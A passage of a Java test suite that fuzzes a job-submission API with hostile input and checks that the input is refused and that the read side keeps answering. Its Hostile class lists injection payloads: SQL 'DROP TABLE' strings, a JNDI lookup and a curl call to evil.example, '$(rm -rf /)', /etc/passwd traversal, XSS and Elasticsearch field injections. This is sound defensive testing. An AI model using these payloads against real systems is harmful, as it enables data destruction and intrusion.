            Set<Long> jobs = new HashSet<>(baselineIds);
            jobs.addAll(EventTableRows.jobsSubmittedBy(db, USER));
            assertThat(EventTableRows.storedOf(db, jobs).events())
                    .as("events of the caller's jobs in the event store").isEqualTo(baselineIds.size());
        }
    }

    // ---------------------------------------------------------------------------------------------
    // Input the read models cannot store (opt-in)

    /**
     * Values that the command side would store but PostgreSQL's read model or the Elasticsearch
     * index cannot take: NUL characters, attribute values beyond the read model's columns,
     * parameter names Elasticsearch refuses. Accepted, any of them stops the projections, which
     * retry the batch for ever, and from then on every query waits for them and answers
     * {@code 503}. So they must be refused, and the read side must still answer afterwards.
     * This runs only with {@code -Djobstream.hostile.poison=true}: on a stack that accepts such
     * input it breaks the read side for everyone who shares it.
     */
    @TestFactory
    @Order(50)
    @EnabledIfSystemProperty(named = "jobstream.hostile.poison", matches = "true")
    Stream<DynamicTest> inputTheReadModelsCannotStoreIsRefused() {
        String user = "hostile-poison-" + UUID.randomUUID().toString().substring(0, 8);
        String owner = token(user, "NormalUser");
        Stack.Answer submitted = call("POST", "/api/jobs/jdl", owner, List.of(VALID_JDL));
        assertThat(submitted.status()).as(submitted.text()).isEqualTo(201);
        String job = submitted.json().get(0).get("JobID").asText();
        List<Case> cases = new ArrayList<>();
        for (Map.Entry<String, String> jdl : Map.of(
                "a NUL inside a string value", "Executable = \"echo\"; JobName = \"a\u0000b\";",
                "a NUL inside a bare word", "Executable = ec\u0000ho;",
                "a JobName of 300 characters", "Executable = \"echo\"; JobName = \"" + "n".repeat(300) + "\";",
                "a JobGroup of 300 characters", "Executable = \"echo\"; JobGroup = \"" + "g".repeat(300) + "\";",
                "a Site of 300 characters", "Executable = \"echo\"; Site = \"" + "s".repeat(300) + "\";").entrySet()) {
            cases.add(new Case("jdl: " + jdl.getKey(), "POST", "/api/jobs/jdl", owner, json(List.of(jdl.getValue())),
                    Expect.REFUSED));
        }
        Map<String, Object> parameters = new LinkedHashMap<>();
        parameters.put("an empty parameter name", Map.of("", "x"));
        parameters.put("a parameter name of dots", Map.of("a..b", "x"));
        parameters.put("a parameter name of 300 characters", Map.of("p".repeat(300), "x"));
        parameters.put("a NUL in a parameter value", Map.of("HostName", "a\u0000b"));
        parameters.put("a NUL in JobName", Map.of("JobName", "a\u0000b"));
        parameters.forEach((name, values) -> cases.add(new Case("metadata: " + name, "PATCH", "/api/jobs/metadata",
                owner, json(Map.of(job, values)), Expect.REFUSED)));
        for (String field : List.of("MinorStatus", "ApplicationStatus", "Source")) {
            cases.add(new Case("status: a NUL in " + field, "PATCH", "/api/jobs/status", PILOT,
                    json(Map.of(job, Map.of("2020-01-01T00:00:00Z", Map.of(field, "a\u0000b")))), Expect.REFUSED));
        }
        cases.add(new Case("heartbeat: a NUL in StandardOutput", "PATCH", "/api/jobs/heartbeat", PILOT,
                json(Map.of(job, Map.of("StandardOutput", "a\u0000b"))), Expect.REFUSED));
        return cases.stream().map(c -> DynamicTest.dynamicTest(c.name(), () -> {
            check(c, Stack.send(c.method(), c.path(), c.token(), c.body(), Map.of()), Duration.ZERO);
            Stack.Answer after = call("POST", "/api/jobs/search", owner, Map.of());
            assertThat(after.status()).as("the read side after %s: %s", c.name(), after.text()).isEqualTo(200);
        }));
    }

    // ---------------------------------------------------------------------------------------------
    // Running and checking cases

    private static DynamicTest run(Case c) {
        return DynamicTest.dynamicTest(c.name(), () -> {
            long started = System.nanoTime();
            Stack.Answer answer = Stack.send(c.method(), c.path(), c.token(), c.body(), afterBaseline);
            check(c, answer, Duration.ofNanos(System.nanoTime() - started));
        });
    }

    private static void check(Case c, Stack.Answer answer, Duration took) {
        String context = c.method() + " " + c.path() + " " + abbreviate(new String(c.body(), StandardCharsets.UTF_8))
                + " -> " + answer.status() + " " + abbreviate(answer.text()) + " (seed " + SEED + ")";
        assertThat(answer.status()).as("no server error: %s", context).isLessThan(500);
        switch (c.expect()) {
            case REFUSED -> {
                assertThat(answer.status()).as("refused: %s", context).isBetween(400, 499);
                assertDetail(answer, context);
            }
            case DETAIL -> assertDetail(answer, context);
            case NOTHING -> {
                assertThat(answer.status()).as("answered: %s", context).isEqualTo(200);
                assertThat(answer.json()).as("nothing: %s", context).isEmpty();
            }
            case NO_SERVER_ERROR -> {
                // these are the costly ones: regular expressions that explode elsewhere, thousands of keys
                assertThat(took).as("answered in time: %s", context).isLessThan(SLOW);
                if (answer.status() >= 400) {
                    assertDetail(answer, context);
                } else if (c.path().startsWith("/api/jobs/search")) {
                    assertThat(jobIds(answer.json())).as("only the caller's jobs: %s", context)
                            .isSubsetOf(baselineIds);
                }
            }
        }
    }

    private static void assertDetail(Stack.Answer answer, String context) {
        JsonNode json;
        try {
            json = JSON.readTree(answer.text());
        } catch (IOException e) {
            throw new AssertionError("not JSON: " + context, e);
        }
        assertThat(json != null && json.hasNonNull("detail")).as("a JSON detail: %s", context).isTrue();
    }

    /** A valid search that must select exactly none or all of the caller's jobs. */
    private static DynamicTest literal(String name, ObjectNode filter, boolean everyOwnJob) {
        return DynamicTest.dynamicTest(name, () -> {
            Stack.Answer answer = query("/api/jobs/search", Map.of("search", List.of(filter)));
            assertThat(answer.status()).as("%s -> %s", filter, answer.text()).isEqualTo(200);
            assertThat(jobIds(answer.json())).as("%s", filter)
                    .containsExactlyInAnyOrderElementsOf(everyOwnJob ? baselineIds : List.of());
        });
    }

    private static JsonNode ownJobs(Map<String, String> headers) {
        Stack.Answer answer = Stack.send("POST", "/api/jobs/search?per_page=100", TOKEN,
                json(Map.of("sort", List.of(Map.of("parameter", "JobID", "direction", "asc")))), headers);
        assertThat(answer.status()).as(answer.text()).isEqualTo(200);
        return answer.json();
    }

    /** A query of this test's user that waits only for the baseline to be in the read models. */
    private static Stack.Answer query(String path, Object body) {
        return Stack.send("POST", path, TOKEN, json(body), afterBaseline);
    }

    private static Set<Long> jobIds(JsonNode jobs) {
        Set<Long> ids = new TreeSet<>();
        jobs.forEach(job -> ids.add(job.get("JobID").asLong()));
        return ids;
    }

    // ---------------------------------------------------------------------------------------------
    // Building requests

    private static Case jdl(String name, String jdl) {
        return jdl(name, List.of(jdl));
    }

    private static Case jdl(String name, List<String> jdls) {
        return new Case(name, "POST", "/api/jobs/jdl", TOKEN, json(jdls), Expect.REFUSED);
    }

    private static Case body(String name, String body) {
        return new Case(name, "POST", "/api/jobs/jdl", TOKEN, raw(body), Expect.REFUSED);
    }

    private static Case search(String name, ObjectNode filter) {
        return search(name, filter, Expect.REFUSED);
    }

    private static Case search(String name, ObjectNode filter, Expect expect) {
        return new Case(name, "POST", "/api/jobs/search", TOKEN, filters(List.of(filter)), expect);
    }

    private static Case search(String name, byte[] body) {
        return new Case(name, "POST", "/api/jobs/search", TOKEN, body, Expect.REFUSED);
    }

    private static Case summary(String name, List<String> grouping) {
        return new Case(name, "POST", "/api/jobs/summary", TOKEN, json(Map.of("grouping", grouping)), Expect.REFUSED);
    }

    private static byte[] filters(List<ObjectNode> filters) {
        ObjectNode body = JSON.createObjectNode();
        ArrayNode search = body.putArray("search");
        filters.forEach(search::add);
        return json(body);
    }

    private static ObjectNode filter(String parameter, String operator, Object value) {
        ObjectNode filter = JSON.createObjectNode().put("parameter", parameter).put("operator", operator);
        filter.set("value", JSON.valueToTree(value));
        return filter;
    }

    private static ObjectNode vector(String parameter, String operator, List<?> values) {
        ObjectNode filter = JSON.createObjectNode().put("parameter", parameter).put("operator", operator);
        filter.set("values", JSON.valueToTree(values));
        return filter;
    }

    private static List<String> repeat(String jdl, int times) {
        return java.util.Collections.nCopies(times, jdl);
    }

    /** The valid JDL with {@code text} inserted strictly inside its first attribute name. */
    private static String insideName(Hostile h, String text) {
        int at = h.between(1, "Executable".length() - 1);
        return VALID_JDL.substring(0, at) + text + VALID_JDL.substring(at);
    }

    private static byte[] json(Object value) {
        try {
            return JSON.writeValueAsBytes(value);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] raw(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String abbreviate(String text) {
        String shown = Hostile.show(text);
        return shown.length() <= 300 ? shown : shown.substring(0, 300) + "... (" + text.length() + " characters)";
    }

    /** Hostile text, from a seed. */
    static final class Hostile {

        /** Injection attempts that cannot be read as a JDL attribute ({@code name = value}) in any position. */
        static final List<String> INJECTIONS = List.of("'; DROP TABLE jobs; --", "\"; DROP TABLE jobs; --",
                "' OR '1'='1", "'); DELETE FROM readmodel.jobs; --", "Robert'); DROP TABLE jobs;--",
                "$(rm -rf /)", "`id`", "${jndi:ldap://evil.example/a}", "{\"$where\": \"sleep(1000)\"}",
                "<script>alert(1)</script>", "../../../../etc/passwd", "|| curl http://evil.example",
                ";shutdown -h now", "\r\nX-Injected: 1", "%00", "{{7*7}}", "#{7*7}", "\\\"; exec('id') #");
        static final List<String> OPERATORS = List.of("EQUALS", "==", "===", "!=", "<>", "contains", "startswith",
                "$where", "$regex", "match_all", "query_string", "script", "exists", "", " eq", "eq ", "not  in",
                "not_in", "notlike", "in\u0000", "\uFF45\uFF51", "\u0435q", "eq\u200B", "LIKE%", "\u0130N");
        static final List<String> FIELD_INJECTIONS = List.of("Status\" OR *",
                "Status\"}}, {\"match_all\": {}}, {\"term\": {\"x", "*", "_id", "_source", "_index", "_all",
                "Parameters", "Parameters.*", "JobID^10", "Status.keyword", "__proto__", "constructor", "", " ",
                "Owner OR VO", "Status,Owner", "*:*", "{\"match_all\":{}}", "../_cat/indices", "Status\u0000",
                "Status ", " Status", "status", "STATUS", "Owner\"] OR [\"VO");

        /** Not ASCII: other scripts, combining marks, full-width forms, emoji, invisible and bidi controls, lone surrogates, noncharacters. */
        private static final int[][] RANGES = {{0xA0, 0xFF}, {0x300, 0x36F}, {0x400, 0x4FF}, {0x600, 0x6FF},
                {0x4E00, 0x9FFF}, {0xFF01, 0xFF5E}, {0x1F600, 0x1F64F}, {0x10000, 0x10FFFF}};
        private static final int[] SPECIALS = {0x85, 0x200B, 0x200D, 0x202E, 0x2028, 0x2029, 0x3000, 0xFEFF,
                0xFFFD, 0xFFFE, 0xFFFF, 0xD800, 0xDBFF, 0xDC00, 0xDFFF};

        private final Random random;

        Hostile(long seed) {
            random = new Random(seed);
        }

        int between(int min, int max) {
            return min + random.nextInt(max - min + 1);
        }

        <T> T pick(List<T> values) {
            return values.get(random.nextInt(values.size()));
        }

        List<String> some(List<String> values, int count) {
            List<String> shuffled = new ArrayList<>(values);
            java.util.Collections.shuffle(shuffled, random);
            return shuffled.subList(0, Math.min(count, shuffled.size()));
        }

        String unicode(int length) {
            StringBuilder text = new StringBuilder();
            while (text.length() < length) {
                if (random.nextInt(4) == 0) {
                    text.append((char) SPECIALS[random.nextInt(SPECIALS.length)]);
                } else {
                    int[] range = RANGES[random.nextInt(RANGES.length)];
                    text.appendCodePoint(between(range[0], range[1]));
                }
            }
            return text.toString();
        }

        String brackets(int length) {
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < length; i++) {
                text.append("[]{}".charAt(random.nextInt(4)));
            }
            return text.toString();
        }

        /** Text of any kind but the double quote: ASCII, backslashes, unicode. */
        String withoutQuotes(int length) {
            StringBuilder text = new StringBuilder();
            while (text.length() < length) {
                switch (random.nextInt(3)) {
                    case 0 -> text.append(unicode(1));
                    case 1 -> text.append('\\');
                    default -> text.append((char) between(0x20, 0x7e));
                }
            }
            return text.toString().replace("\"", "'");
        }

        /** Text as a failure message shows it: controls, invisibles and surrogates as code points. */
        static String show(String text) {
            StringBuilder shown = new StringBuilder();
            text.codePoints().forEach(c -> {
                if (c < 0x20 || (c >= 0x7f && c < 0xa0) || Character.getType(c) == Character.FORMAT
                        || Character.getType(c) == Character.SURROGATE || Character.isWhitespace(c) && c != ' '
                        || c == 0xFFFE || c == 0xFFFF) {
                    shown.append(String.format("<U+%04X>", c));
                } else {
                    shown.appendCodePoint(c);
                }
            });
            return shown.toString();
        }
    }
}
